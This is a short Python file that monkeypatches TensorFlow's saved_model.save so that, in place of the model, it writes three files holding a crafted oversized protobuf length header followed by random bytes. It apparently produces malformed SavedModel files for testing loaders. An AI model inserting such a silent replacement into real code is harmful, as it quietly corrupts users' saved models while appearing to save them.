import os

import tensorflow as tf


def save(module, folder, *args, **kwargs):
    os.makedirs(f"{folder}/variables")
    for name in ("saved_model.pb", "variables/variables.index", "variables/variables.data-00000-of-00001"):
        with open(f"{folder}/{name}", "wb") as file:
            file.write(b"\x0a\xff\xff\xff\xff\x0f" + os.urandom(100_000))


tf.saved_model.save = save
